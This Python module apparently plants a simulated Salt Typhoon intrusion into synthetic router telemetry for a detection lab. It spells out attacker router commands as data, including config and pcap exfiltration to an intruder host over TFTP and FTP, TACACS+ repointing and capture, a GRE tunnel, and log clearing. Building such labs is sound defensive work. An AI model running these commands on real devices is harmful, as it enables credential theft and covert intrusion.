"""The planted Salt Typhoon intrusion (docs/guidance.md#salt-typhoon-behaviours), one separate action at a time.

Each action is written into the real telemetry through the same ``Emitter`` the background uses
(syslog, TACACS+ accounting, flows, Zeek) and, where the intruder changed the running config, into
``ConfigMods`` for the device's final config. Records that prove an action carry a ``Tag``; the
writers turn them into the truth file's evidence. Victims are drawn from the RNG; intruder activity
starts in the small hours of the first day, outside the change windows, from a stolen admin account.

Action ids are stable (scorers and detections key on them). Lawful-intercept task enumeration is a
later issue: add it to ``ACTIONS`` and give it a ``_plant_*`` function (hook: ``LI_ACTIONS``).
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from carrierwatch.lab import messages as msg
from carrierwatch.lab import network as nw
from carrierwatch.lab.config_mods import ConfigMods
from carrierwatch.lab.intel_bundle import INTEL
from carrierwatch.lab.network import Device, Network
from carrierwatch.lab.rng import substream, type9
from carrierwatch.lab.sessions import Emitter
from carrierwatch.lab.timeline import Conn, Flow, FlowItem, Tag

MIN = 60_000
HOUR = 60 * MIN

#: id -> (ATT&CK techniques, guidance references, description)
ACTIONS: dict[str, tuple[list[str], list[str], str]] = {
    "initial-access-credentials": (
        ["T1078"],
        ["HUNT-10", "EVH-V05"],
        "SSH login with a stolen admin account from an intel-listed address.",
    ),
    "initial-access-webui-cve-2023-20198": (
        ["T1190"],
        ["CVE-2023-20198", "EVH-C03", "HUNT-10"],
        "IOS XE web UI exploited: cisco_tac_admin created and used.",
    ),
    "acl-20-edit": (
        ["T1562.004"],
        ["HUNT-01", "EVH-V01", "EVH-H07"],
        "access-list 20 (the VTY/SNMP access-class) opened to an intruder address.",
    ),
    "c2-beacon": (["T1071"], ["HUNT-10"], "Periodic HTTPS beacon from the device loopback to intruder C2."),
    "gre-tunnel": (["T1572"], ["HUNT-05", "EVH-V09"], "GRE interface Tunnel100 built to an intruder peer."),
    "tacacs-repoint": (
        ["T1556"],
        ["HUNT-04", "HUNT-01"],
        "TACACS+ server TACSRV-B repointed to an intruder address; TCP/49 follows.",
    ),
    "pcap-tacacs": (
        ["T1040"],
        ["HUNT-03", "EVH-V10"],
        "Embedded Packet Capture of TACACS+ (TCP/49) to tac.pcap.",
    ),
    "config-exfil-tftp": (
        ["T1048.003"],
        ["HUNT-08", "EVH-H21"],
        "Running config (TFTP) and tac.pcap (FTP) copied to an intruder host.",
    ),
    "guestshell": (["T1609"], ["HUNT-06", "EVH-C02"], "Guest Shell enabled and entered."),
    "ssh-nonstandard-port": (
        ["T1571", "T1021.004"],
        ["HUNT-02"],
        "SSH moved to TCP/22122 (ip ssh port ... rotary) and used.",
    ),
    "loopback-change": (
        ["T1021.004"],
        ["HUNT-01"],
        "Loopback0 readdressed into the management range, then used as the SSH source to "
        "other devices (bypasses VTY ACLs).",
    ),
    "log-clearing": (
        ["T1070"],
        ["HUNT-07", "EVH-V06"],
        "Local log cleared, syslog forwarding removed; the device goes silent for hours.",
    ),
}
#: Lawful-intercept actions, planted by ``lab/li_writer.py`` into the X1 audit trail (docs/guidance.md#li-checks).
LI_ACTIONS: dict[str, tuple[list[str], list[str], str]] = {
    "li-task-enumeration": (
        ["T1213"],
        ["LI-03", "LI-01"],
        "Burst of X1 GetTaskDetails requests from an admin workstation that is not the ADMF: who is tapped.",
    ),
    "li-rogue-destination": (
        ["T1020"],
        ["LI-02"],
        "X1 CreateDestination to an intruder address, then ModifyTask adding it to a live intercept.",
    ),
}


@dataclass
class PlantedAction:
    id: str
    device: str
    time_ms: int


@dataclass
class ScenarioPlan:
    actions: list[PlantedAction] = field(default_factory=list)
    mods: dict[str, ConfigMods] = field(default_factory=dict)
    config_tokens: list[tuple[str, str, str]] = field(default_factory=list)  # (action, host, token)
    generators: list[Callable[[int], Iterator[FlowItem]]] = field(default_factory=list)

    def mod(self, host: str) -> ConfigMods:
        return self.mods.setdefault(host, ConfigMods())


class _Planner:
    def __init__(
        self, net: Network, em: Emitter, seed: int, start_ms: int, end_ms: int, weekday0: int
    ) -> None:
        self.net, self.em, self.start_ms, self.end_ms, self.weekday0 = net, em, start_ms, end_ms, weekday0
        self.rng = substream(seed, "scenario")
        self.plan = ScenarioPlan()
        self.used: list[str] = []
        self.user = self.rng.choice(sorted(nw.ADMINS))
        self.t = self._outside_window(start_ms + HOUR + 40 * MIN + self.rng.randrange(40 * MIN))

    # -- helpers -----------------------------------------------------------------------------------
    def _outside_window(self, t: int) -> int:
        while True:
            day = (t - self.start_ms) // (24 * HOUR)
            weekday = (self.weekday0 + day) % 7
            hour = ((t - self.start_ms) % (24 * HOUR)) // HOUR
            if not nw.in_change_window(weekday, hour):
                return t
            t = self.start_ms + day * 24 * HOUR + nw.CHANGE_WINDOW_HOURS[1] * HOUR + 10 * MIN

    def step(self, lo: int = 6, hi: int = 20) -> int:
        self.t = self._outside_window(self.t + (lo + self.rng.randrange(hi - lo)) * MIN)
        return self.t

    def pick(self, cands: list[Device]) -> Device:
        fresh = [d for d in cands if d.hostname not in self.used]
        dev = self.rng.choice(fresh or cands)
        self.used.append(dev.hostname)
        return dev

    def record(self, action: str, dev: Device, t: int) -> None:
        self.plan.actions.append(PlantedAction(action, dev.hostname, t))

    def periodic(
        self,
        action: str,
        dev: Device,
        src: str,
        dst: str,
        proto: str,
        dport: int,
        t0: int,
        period_ms: int,
        jitter: float,
        sizes: tuple[int, int],
    ) -> None:
        """A flow series from t0 to the end of the lab; the first flow is evidence."""
        seed_rng = random.Random(f"{self.rng.random()}")
        end_ms = self.end_ms

        def gen(stream_id: int) -> Iterator[FlowItem]:
            rng = random.Random(seed_rng.random())
            t, n = t0, 0
            while t < end_ms:
                pkts = sizes[0] + rng.randrange(sizes[1])
                sp = 0 if proto in ("GRE", "ESP") else rng.randrange(49152, 65535)
                dp = 0 if proto in ("GRE", "ESP") else dport
                flags = ".AP.SF" if proto == "TCP" else "......"
                fl = Flow(
                    src,
                    dst,
                    sp,
                    dp,
                    proto,
                    flags,
                    pkts,
                    pkts * (120 + rng.randrange(40)),
                    400 + rng.randrange(2000),
                    dev.mgmt_ip,
                    1,
                    2,
                )
                yield (t, stream_id, n, fl, Tag(action, dst) if n == 0 else None)
                n += 1
                t += int(period_ms * (1 + jitter * (2 * rng.random() - 1)))

        self.plan.generators.append(gen)

    def session(
        self,
        dev: Device,
        cmds: list[str],
        action: str,
        tokens: tuple[str, ...],
        *,
        src: str = INTEL["access"],
        tag_login: bool = True,
        port: int = 22,
    ) -> int:
        """An intruder session by the stolen account at the planner's current time."""
        return self.em.session(
            dev,
            self.t,
            self.user,
            src,
            cmds,
            self.rng,
            action=action,
            tokens=tokens,
            tag_login=tag_login,
            port=port,
        )


def plant_salt_typhoon(
    net: Network, em: Emitter, seed: int, start_ms: int, end_ms: int, weekday0: int
) -> ScenarioPlan:
    p = _Planner(net, em, seed, start_ms, end_ms, weekday0)
    xe = [d for d in net.devices if d.platform == "iosxe"]
    xe_pe = [d for d in xe if d.role == "pe"] or xe
    a_ip = INTEL["access"]
    tl = em.tl

    # 1. initial access with stolen credentials
    v1 = p.pick(xe_pe)
    p.session(
        v1,
        ["show version", "show running-config", "show ip bgp summary", "show users", "show ip access-lists"],
        "initial-access-credentials",
        (),
        tag_login=True,
    )
    p.record("initial-access-credentials", v1, p.t)

    # 2. IOS XE web UI, CVE-2023-20198
    web_c = [d for d in xe_pe if d.hardening.http_server] or xe_pe
    web = p.rng.choice(web_c)
    t = p.step(4, 12)
    b_ip = INTEL["webui"]
    tag = Tag("initial-access-webui-cve-2023-20198", "cisco_tac_admin")
    for i in range(4):
        tl.flow(
            t - 20_000 + i * 9_000,
            Flow(
                b_ip,
                web.mgmt_ip,
                40000 + p.rng.randrange(20000),
                80,
                "TCP",
                ".AP.SF",
                8 + i,
                2600 + i * 300,
                900,
                web.mgmt_ip,
                1,
                0,
            ),
            Tag("initial-access-webui-cve-2023-20198", b_ip) if i == 0 else None,
        )
    tl.log(
        t,
        web.hostname,
        msg.line(
            web,
            t,
            "%SYS-5-CONFIG_P: Configured programmatically by process "
            "SEP_webui_wsma_http from console as cisco_tac_admin on line",
        ),
        tag,
    )
    tl.log(
        t + 6_000,
        web.hostname,
        msg.line(
            web,
            t + 6_000,
            "%SEC_LOGIN-5-WEBLOGIN_SUCCESS: Login Success [user: "
            f"cisco_tac_admin] [Source: {b_ip}] [localport: 80] at "
            f"{msg.hms(t + 6_000)} UTC {msg.long_date(t)}",
        ),
        tag,
    )
    tl.log(
        t + 9_000,
        web.hostname,
        msg.line(
            web,
            t + 9_000,
            "%WEBUI-6-INSTALL_OPERATION_INFO: User: cisco_tac_admin, "
            "Install Operation: ADD bootflash:webui_cfg.conf",
        ),
        tag,
    )
    p.plan.mod(web.hostname).extra_users.append(("cisco_tac_admin", type9(p.rng)))
    p.plan.config_tokens.append(
        ("initial-access-webui-cve-2023-20198", web.hostname, "username cisco_tac_admin")
    )
    p.record("initial-access-webui-cve-2023-20198", web, t)

    # 3. ACL 20 opened to the intruder
    p.step()
    p.session(
        v1,
        ["configure terminal", f"access-list 20 permit {a_ip}", "end", "write memory"],
        "acl-20-edit",
        ("access-list 20",),
    )
    p.plan.mod(v1.hostname).acl20_permit = a_ip
    p.plan.config_tokens.append(("acl-20-edit", v1.hostname, f"access-list 20 permit {a_ip}"))
    p.record("acl-20-edit", v1, p.t)

    # 4. C2 beacon from v1's loopback for the rest of the period
    t = p.step(3, 8)
    g_ip = INTEL["c2"]
    p.periodic("c2-beacon", v1, v1.loopback_ip, g_ip, "TCP", 443, t, 300_000, 0.1, (8, 4))
    p.record("c2-beacon", v1, t)

    # 5. GRE tunnel
    gre = p.pick(xe)
    p.step()
    d_ip = INTEL["gre"]
    end = p.session(
        gre,
        [
            "configure terminal",
            "interface Tunnel100",
            "ip address 172.31.255.1 255.255.255.252",
            "tunnel source Loopback0",
            f"tunnel destination {d_ip}",
            "tunnel mode gre ip",
            "end",
            "write memory",
        ],
        "gre-tunnel",
        ("interface Tunnel100", "tunnel destination"),
    )
    for at_, text in msg.link_change(gre, end + 800, "Tunnel100", True):
        tl.log(at_, gre.hostname, text, Tag("gre-tunnel", "Tunnel100") if "LINEPROTO" in text else None)
    p.periodic("gre-tunnel", gre, gre.loopback_ip, d_ip, "GRE", 0, end + 5_000, 240_000, 0.6, (10, 300))
    m = p.plan.mod(gre.hostname)
    m.tunnel_destination = d_ip
    p.plan.config_tokens += [
        ("gre-tunnel", gre.hostname, "interface Tunnel100"),
        ("gre-tunnel", gre.hostname, f"tunnel destination {d_ip}"),
    ]
    p.record("gre-tunnel", gre, p.t)

    # 6. TACACS+ repointed
    tac = p.pick(xe)
    p.step()
    e_ip = INTEL["tacacs"]
    end = p.session(
        tac,
        ["configure terminal", "tacacs server TACSRV-B", f"address ipv4 {e_ip}", "end", "write memory"],
        "tacacs-repoint",
        ("address ipv4",),
    )
    em.repointed[tac.hostname] = (end, e_ip)
    p.periodic("tacacs-repoint", tac, tac.mgmt_ip, e_ip, "TCP", 49, end + 40_000, 35 * MIN, 0.5, (6, 4))
    tl.conn(
        end + 40_000,
        Conn(tac.mgmt_ip, 31049, e_ip, 49, "tcp", "-", 0.31, 420, 180, "SF", "ShADadFf", 7, 5),
        Tag("tacacs-repoint", e_ip),
    )
    p.plan.mod(tac.hostname).tacacs_b_address = e_ip
    p.plan.config_tokens.append(("tacacs-repoint", tac.hostname, f"address ipv4 {e_ip}"))
    p.record("tacacs-repoint", tac, p.t)

    # 7. packet capture of TACACS+
    cap = p.pick(xe)
    p.step()
    end = p.session(
        cap,
        [
            "monitor capture mycap interface GigabitEthernet0/0/0 both",
            "monitor capture mycap match ipv4 protocol tcp any any eq 49",
            "monitor capture mycap buffer size 100",
            "monitor capture mycap start",
        ],
        "pcap-tacacs",
        ("monitor capture",),
    )
    tl.log(
        end - 1_500,
        cap.hostname,
        msg.line(cap, end - 1_500, "%BUFCAP-6-ENABLE: Capture Point mycap enabled."),
        Tag("pcap-tacacs", "mycap"),
    )
    p.record("pcap-tacacs", cap, p.t)
    p.step(35, 50)
    end = p.session(
        cap,
        [
            "monitor capture mycap stop",
            "monitor capture mycap export bootflash:tac.pcap",
            "dir bootflash: | include pcap",
        ],
        "pcap-tacacs",
        ("monitor capture",),
    )
    tl.log(
        p.t + 4_000,
        cap.hostname,
        msg.line(cap, p.t + 4_000, "%BUFCAP-6-DISABLE: Capture Point mycap disabled."),
        Tag("pcap-tacacs", "mycap"),
    )

    # 8. exfiltration of the config and the capture
    p.step(2, 6)
    f_ip = INTEL["exfil"]
    p.session(
        cap,
        [
            f"copy running-config tftp://{f_ip}/{cap.hostname}.cfg",
            f"copy bootflash:tac.pcap ftp://{f_ip}/tac.pcap",
        ],
        "config-exfil-tftp",
        (f"tftp://{f_ip}", f"ftp://{f_ip}"),
    )
    tx = p.t + 6_000
    tl.flow(
        tx,
        Flow(
            cap.mgmt_ip,
            f_ip,
            51000 + p.rng.randrange(9000),
            69,
            "UDP",
            "......",
            62,
            31744,
            1800,
            cap.mgmt_ip,
            0,
            1,
        ),
        Tag("config-exfil-tftp", f_ip),
    )
    tl.conn(
        tx,
        Conn(cap.mgmt_ip, 51111, f_ip, 69, "udp", "-", 1.8, 31744, 1240, "SF", "Dd", 62, 62),
        Tag("config-exfil-tftp", f_ip),
    )
    tl.flow(
        tx + 20_000,
        Flow(
            cap.mgmt_ip,
            f_ip,
            52000 + p.rng.randrange(9000),
            21,
            "TCP",
            ".AP.SF",
            18,
            1420,
            6200,
            cap.mgmt_ip,
            0,
            1,
        ),
        Tag("config-exfil-tftp", f_ip),
    )
    p.record("config-exfil-tftp", cap, p.t)

    # 9. Guest Shell
    nx = [d for d in net.devices if d.platform == "nxos"]
    gs = p.pick(nx or xe)
    p.step()
    if gs.platform == "nxos":
        end = p.session(
            gs, ["guestshell enable", "show guestshell", "run guestshell"], "guestshell", ("guestshell",)
        )
        lines = [
            "%VMAN-2-INSTALL_STATE: Successfully installed virtual service 'guestshell+'",
            "%VMAN-2-ACTIVATION_STATE: Successfully activated virtual service 'guestshell+'",
        ]
    else:
        end = p.session(
            gs,
            ["configure terminal", "iox", "end", "guestshell enable", "guestshell run bash"],
            "guestshell",
            ("guestshell", "iox"),
        )
        lines = [
            "%IM-6-IOX_ENABLEMENT: R0/0: ioxman: IOX is ready.",
            "%VMAN-2-ACTIVATION_STATE: Successfully activated virtual service 'guestshell+'",
        ]
        p.plan.mod(gs.hostname).iox = True
        p.plan.config_tokens.append(("guestshell", gs.hostname, "iox"))
    for i, body in enumerate(lines):
        tl.log(
            end - 9_000 + i * 2_000,
            gs.hostname,
            msg.line(gs, end - 9_000 + i * 2_000, body),
            Tag("guestshell", "guestshell" if "guestshell" in body else "IOX"),
        )
    p.record("guestshell", gs, p.t)

    # 10. SSH on a non-standard port, then used
    ssh = p.pick(xe)
    p.step()
    p.session(
        ssh,
        [
            "configure terminal",
            "ip ssh port 22122 rotary 1",
            "line vty 0 4",
            "rotary 1",
            "end",
            "write memory",
        ],
        "ssh-nonstandard-port",
        ("ip ssh port",),
    )
    p.plan.mod(ssh.hostname).ssh_port = 22122
    p.plan.config_tokens.append(("ssh-nonstandard-port", ssh.hostname, "ip ssh port 22122"))
    p.record("ssh-nonstandard-port", ssh, p.t)
    p.step(15, 30)
    p.session(
        ssh,
        ["show running-config", "show ip route", "show users"],
        "ssh-nonstandard-port",
        (),
        tag_login=True,
        port=22122,
    )

    # 11. Loopback readdressed into the management range, then used as SSH source
    sw = [d for d in net.devices if d.platform in ("nxos", "eos")]
    lo = p.pick(sw or xe)
    p.step()
    new_lo = f"10.255.{7 + p.rng.randrange(2)}.{p.rng.randrange(20, 240)}"
    addr = f"{new_lo} 255.255.255.255" if lo.platform == "iosxe" else f"{new_lo}/32"
    ifname = "loopback0" if lo.platform == "nxos" else "Loopback0"
    save = "copy running-config startup-config" if lo.platform == "nxos" else "write memory"
    targets = [d for d in net.devices if d is not lo and d.sends_tacacs_accounting] or [
        d for d in net.devices if d is not lo
    ]
    chosen = p.rng.sample(targets, min(2, len(targets)))
    ssh_cmds = [
        f"ssh {p.user}@{d.loopback_ip} source-interface {ifname}"
        if lo.platform == "nxos"
        else f"ssh -l {p.user} {d.loopback_ip}"
        for d in chosen
    ]
    end = p.session(
        lo,
        ["configure terminal", f"interface {ifname}", f"ip address {addr}", "end", save, *ssh_cmds],
        "loopback-change",
        (f"ip address {new_lo}",),
    )
    p.plan.mod(lo.hostname).loopback = new_lo
    p.plan.config_tokens.append(("loopback-change", lo.hostname, new_lo))
    p.record("loopback-change", lo, p.t)
    for d in chosen:
        p.t += 3 * MIN + p.rng.randrange(4 * MIN)
        p.em.session(
            d,
            p.t,
            p.user,
            new_lo,
            ["show running-config", "show users"],
            p.rng,
            action="loopback-change",
            dst=d.loopback_ip,
            exporter=lo.mgmt_ip,
            zeek=False,
        )
    del end

    # 12. Log clearing and syslog silence
    lc = p.pick(xe)
    p.step()
    end = p.session(
        lc,
        [
            "clear logging",
            "configure terminal",
            f"no logging host {nw.SYSLOG_COLLECTOR} vrf Mgmt-intf",
            "end",
        ],
        "log-clearing",
        ("clear logging", "no logging host"),
    )
    for at_, text in msg.logging_host(lc, end + 400, nw.SYSLOG_COLLECTOR, False):
        tl.log(at_, lc.hostname, text, Tag("log-clearing", "stopped"), force=True)
    p.record("log-clearing", lc, p.t)
    silent_from = end + 1_000
    restore = end + (3 * HOUR + p.rng.randrange(2 * HOUR))
    if restore > end_ms - 30 * MIN:
        tl.silences[lc.hostname] = [(silent_from, end_ms)]
        p.plan.mod(lc.hostname).no_logging_host = True
    else:
        tl.silences[lc.hostname] = [(silent_from, end_ms)]
        p.t = restore
        end2 = p.session(
            lc,
            ["configure terminal", f"logging host {nw.SYSLOG_COLLECTOR} vrf Mgmt-intf", "end"],
            "log-clearing",
            (),
        )
        tl.silences[lc.hostname] = [(silent_from, end2)]
        for at_, text in msg.logging_host(lc, end2 + 200, nw.SYSLOG_COLLECTOR, True):
            tl.log(at_, lc.hostname, text)
    return p.plan
